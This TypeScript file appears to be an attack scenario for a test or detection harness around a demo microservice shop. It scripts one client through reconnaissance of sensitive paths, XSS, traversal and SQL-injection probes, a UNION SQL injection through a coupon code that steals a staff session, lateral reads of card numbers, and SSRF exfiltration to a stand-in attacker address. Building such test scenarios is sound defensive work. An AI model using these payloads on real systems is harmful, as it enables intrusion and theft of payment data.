/** One client that goes all the way, step after step: what it looks for, what it tries, and what it does with what it finds. */
import { COUPONS } from '../shop/database/schema.ts';
import type { Actor } from './actor.ts';
import { mustHold, type Scenario, type Stage } from './scenario.ts';

const LOOKED_FOR = [
  '/.env',
  '/.git/config',
  '/admin',
  '/admin/login',
  '/api/v1/users',
  '/backup.zip',
  '/config.json',
  '/debug/vars',
  '/graphql',
  '/metrics',
  '/phpmyadmin/',
  '/server-status',
  '/swagger.json',
  '/wp-login.php',
  '/internal/health',
  '/actuator/env',
] as const;

/** None of them does anything to the shop: the category is a parameter of its statement. */
const PROBES = [
  `/products?category=${encodeURIComponent('<script>alert(document.domain)</script>')}`,
  `/products?category=${encodeURIComponent('../../../../etc/passwd')}`,
  `/products?category=${encodeURIComponent("toys' or '1'='1' -- ")}`,
] as const;

const CARRIED_OUT = 2;
/** Of the attacker: documentation address (RFC 5737) that the shop's stand-in for the internet answers. */
const DROP = 'http://203.0.113.77:8443/collect';

export const stagedAttack: Scenario = {
  name: 'staged-attack',
  kind: 'attack',
  title: 'One client: looks around, probes, breaks in, goes on to another service, carries the data out',
  expected: {
    kinds: ['actor', 'attack-pattern', 'statement', 'service-pair', 'egress', 'unseen-edge', 'unseen-operation'],
    services: ['gateway', 'catalog', 'orders', 'auth', 'worker'],
    stages: ['reconnaissance', 'probing', 'exploitation', 'lateral-movement', 'exfiltration'],
  },
  beside: true,
  async run(stage) {
    const actor = stage.stranger();
    await lookAround(stage, actor);
    await pause(stage);
    for (const path of PROBES) {
      await actor.act({ method: 'GET', path });
      await stage.wait(stage.random.between(500, 1_500));
    }
    await pause(stage);
    const account = stage.customer(); // made in a minute
    await actor.signIn(account);
    const own = actor.token;
    const stolen = await breakIn(stage, actor);
    await pause(stage);
    const cards = await goOn(stage, actor);
    await pause(stage);
    actor.adopt(stolen);
    const sales = await actor.act({ method: 'GET', path: '/admin/sales?days=365&pace=0' });
    mustHold(sales.status === 200, 'the stolen session opened nothing');
    await pause(stage);
    actor.adopt(own);
    await carryOut(stage, actor, cards);
    // on Kafka, read by the batch, others' jobs may have been taken with these
    return { actors: [actor], companions: await stage.inBatchesOf('avatars', account, CARRIED_OUT) };
  },
};

const pause = (stage: Stage): Promise<void> => stage.wait(stage.random.between(2_500, 4_000));

async function lookAround(stage: Stage, actor: Actor): Promise<void> {
  let missing = 0;
  for (const path of LOOKED_FOR) {
    if ((await actor.act({ method: 'GET', path })).status === 404) missing++;
    await stage.wait(stage.random.between(150, 500));
  }
  mustHold(missing >= LOOKED_FOR.length - 2, 'the pages were there');
}

/** SQL injection through a coupon: a session of the back office. */
async function breakIn(stage: Stage, actor: Actor): Promise<string> {
  const coupon = `SAVE${1 + stage.random.below(COUPONS)}`;
  const select =
    "select s.token, 0 from sessions s join accounts a on a.id = s.account_id where a.role = 'staff' order by 1 limit 1";
  const code = `${coupon}x' union ${select} -- `;
  const answer = await actor.act({ method: 'GET', path: `/cart/coupon?${new URLSearchParams({ code })}` });
  const [row] = (Array.isArray(answer.body) ? answer.body : []) as { code?: string }[];
  mustHold(/^[0-9a-f-]{36}$/.test(row?.code ?? ''), 'no session was stolen');
  return row?.code ?? '';
}

/** Through the catalog into the accounts, which it never asks. */
async function goOn(stage: Stage, actor: Actor): Promise<string> {
  const cards: string[] = [];
  for (let turn = 0; turn < 3; turn++) {
    const path = `/products/${1 + stage.random.below(40)}?include=auth.GetAccount&account=${1 + stage.random.below(90)}`;
    const answer = await actor.act({ method: 'GET', path });
    const account = (answer.body as Record<string, { card?: string }> | null)?.['auth.GetAccount'];
    mustHold(account?.card !== undefined, 'no account was read');
    cards.push(account?.card ?? '');
    await stage.wait(stage.random.between(600, 1_400));
  }
  return cards.join(',');
}

/** The shop's own worker takes it out. */
async function carryOut(stage: Stage, actor: Actor, text: string): Promise<void> {
  for (let turn = 0; turn < CARRIED_OUT; turn++) {
    const url = `${DROP}?d=${Buffer.from(`${turn}:${text}`).toString('base64url')}`;
    const answer = await actor.act({ method: 'POST', path: '/account/avatar', body: { url } });
    mustHold(answer.status === 202, 'no job was queued');
    await stage.wait(stage.random.between(800, 1_600));
  }
}
